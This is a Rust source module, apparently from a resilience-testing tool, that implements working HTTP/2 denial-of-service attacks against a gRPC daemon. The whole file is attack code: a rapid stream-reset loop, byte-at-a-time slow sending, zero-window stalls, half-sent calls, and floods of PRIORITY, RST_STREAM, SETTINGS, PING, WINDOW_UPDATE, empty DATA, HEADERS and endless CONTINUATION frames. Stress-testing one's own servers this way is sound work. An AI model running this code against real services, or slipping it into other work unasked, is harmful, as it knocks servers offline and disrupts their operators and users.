//! Over HTTP/2.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf, WriteHalf};

use super::frames::{
    ACK, END_HEADERS, END_STREAM, HEADER_BYTES, INITIAL_WINDOW_SIZE, PREFACE, call, call_headers, data, frame, kind,
    message, settings, window_update,
};
use super::{Attack, Done, Flood, Hostile, Rpc, Socket};

/// The pause behind each byte of one that crawls.
const STEP: Duration = Duration::from_millis(5);

/// The widest window.
const WIDE: u32 = (1 << 31) - 1;

/// So many frames of a flood are written at a time.
const AT_A_TIME: u32 = 64;

pub(super) async fn attack(
    hostile: &Hostile,
    attack: Attack,
    mut socket: Box<dyn Socket>,
    done: &mut Done,
) -> io::Result<()> {
    let window = if attack == Attack::ShutWindows { 0 } else { WIDE };
    socket.write_all(&[PREFACE, &settings(&[(INITIAL_WINDOW_SIZE, window)])].concat()).await?;
    if window > 0 {
        socket.write_all(&window_update(0, WIDE - 65_535)).await?;
    }
    let (reading, writing) = tokio::io::split(socket);
    let mut calls = Calls { rpcs: &hostile.rpcs, writing, next: 1, done };
    match attack {
        Attack::ShutWindows => calls.follow(reading, hostile.streams).await,
        Attack::UnreadSocket => {
            let _unread = reading;
            loop {
                // More than may be open at a time: those that end make room for the next, though nobody reads it.
                calls.begin(true).await?;
                if calls.done.requests.is_multiple_of(u64::from(hostile.streams.max(1))) {
                    tokio::time::sleep(STEP).await;
                }
            }
        }
        Attack::Half => {
            for _ in 0..hostile.streams {
                calls.begin(false).await?;
            }
            thrown_away(reading).await
        }
        attack => tokio::select! {
            ended = thrown_away(reading) => ended,
            ended = calls.send(attack) => ended,
        },
    }
}

async fn thrown_away(mut reading: ReadHalf<Box<dyn Socket>>) -> io::Result<()> {
    let mut piece = vec![0; 64 << 10];
    while reading.read(&mut piece).await? > 0 {}
    Ok(())
}

struct Calls<'a> {
    rpcs: &'a [Rpc],
    writing: WriteHalf<Box<dyn Socket>>,
    /// The stream that comes next.
    next: u32,
    done: &'a mut Done,
}

impl Calls<'_> {
    /// What is called on a stream.
    fn rpc(&self, stream: u32) -> Option<&Rpc> {
        self.rpcs.get(stream as usize / 2 % self.rpcs.len().max(1))
    }

    fn stream(&mut self) -> (u32, Rpc) {
        let stream = self.next;
        self.next += 2;
        self.done.requests += 1;
        (stream, self.rpc(stream).cloned().unwrap_or(Rpc { path: "/".to_owned(), message: Vec::new() }))
    }

    /// Begins a call; only half of its message is sent, if not the whole.
    async fn begin(&mut self, whole: bool) -> io::Result<()> {
        let (stream, rpc) = self.stream();
        let message = message(&rpc.message);
        let sent = if whole { &message[..] } else { &message[..message.len() / 2] };
        self.writing.write_all(&[call(stream, &rpc.path, false), data(stream, sent, whole)].concat()).await
    }

    /// How much of the connection's window the next call takes.
    fn size_of_next(&self) -> usize {
        self.rpc(self.next).map_or(0, |rpc| rpc.message.len() + 5)
    }

    /// Keeps so many calls open, another for each that ended, and answers what has to be answered for the connection to live;
    /// the daemon's own windows are respected.
    async fn follow(&mut self, mut reading: ReadHalf<Box<dyn Socket>>, open: u32) -> io::Result<()> {
        let (mut header, mut to_begin, mut window) = ([0; HEADER_BYTES], open, 65_535_usize);
        loop {
            while to_begin > 0 && self.size_of_next() <= window {
                window -= self.size_of_next();
                to_begin -= 1;
                self.begin(true).await?;
            }
            reading.read_exact(&mut header).await?;
            let [a, b, c, kind, flags, stream @ ..] = header;
            let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
            reading.read_exact(&mut payload).await?;
            match kind {
                kind::SETTINGS if flags & ACK == 0 => {
                    self.writing.write_all(&frame(kind::SETTINGS, ACK, 0, &[])).await?;
                }
                kind::PING if flags & ACK == 0 => {
                    self.writing.write_all(&frame(kind::PING, ACK, 0, &payload)).await?;
                }
                kind::WINDOW_UPDATE if stream == [0; 4] => {
                    let more = payload.first_chunk().map_or(0, |more| u32::from_be_bytes(*more));
                    window += more as usize;
                }
                kind::GOAWAY => return Ok(()),
                kind::RST_STREAM => (self.done.ended, to_begin) = (self.done.ended + 1, to_begin + 1),
                kind::HEADERS | kind::DATA if flags & END_STREAM != 0 => {
                    (self.done.ended, to_begin) = (self.done.ended + 1, to_begin + 1);
                }
                _ => {}
            }
        }
    }

    async fn send(&mut self, attack: Attack) -> io::Result<()> {
        match attack {
            Attack::Reset => loop {
                let (stream, rpc) = self.stream();
                let calls = [call(stream, &rpc.path, false), data(stream, &message(&rpc.message), true)].concat();
                let reset = frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes());
                self.writing.write_all(&[calls, reset].concat()).await?;
            },
            Attack::Crawl => loop {
                let (stream, rpc) = self.stream();
                let bytes = [call(stream, &rpc.path, false), data(stream, &message(&rpc.message), true)].concat();
                for byte in bytes {
                    self.writing.write_all(&[byte]).await?;
                    tokio::time::sleep(STEP).await;
                }
            },
            Attack::Flood(Flood::Headers) => loop {
                let mut calls = Vec::new();
                for _ in 0..AT_A_TIME {
                    let (stream, rpc) = self.stream();
                    calls.extend([call(stream, &rpc.path, false), data(stream, &message(&rpc.message), true)].concat());
                }
                self.writing.write_all(&calls).await?;
            },
            Attack::Flood(flood) => {
                // A stream that is open, for what needs one.
                let (stream, rpc) = self.stream();
                if flood == Flood::Continuation {
                    self.writing.write_all(&frame(kind::HEADERS, 0, stream, &call_headers(&rpc.path))).await?;
                } else {
                    self.writing.write_all(&call(stream, &rpc.path, false)).await?;
                }
                let mut place = 0_u32;
                loop {
                    let frames: Vec<u8> =
                        (0..AT_A_TIME).flat_map(|at| one(flood, stream, place.wrapping_add(at))).collect();
                    place = place.wrapping_add(AT_A_TIME);
                    self.writing.write_all(&frames).await?;
                }
            }
            _ => Ok(()),
        }
    }
}

/// One frame of a flood.
fn one(flood: Flood, stream: u32, place: u32) -> Vec<u8> {
    match flood {
        Flood::Priority => frame(kind::PRIORITY, 0, 2 * (place % 1000) + 3, &[0, 0, 0, 1, 15]),
        Flood::RstStream => frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
        Flood::Settings => settings(&[(INITIAL_WINDOW_SIZE, 65_535 + place % 2)]),
        Flood::Ping => frame(kind::PING, 0, 0, &[7; 8]),
        Flood::WindowUpdate => window_update(stream, 1),
        // A header that says nothing, without an end to them.
        Flood::Continuation => frame(kind::CONTINUATION, 0, stream, b"\x00\x01x\x01y"),
        Flood::EmptyData => frame(kind::DATA, 0, stream, &[]),
        Flood::Headers => frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &[]),
    }
}
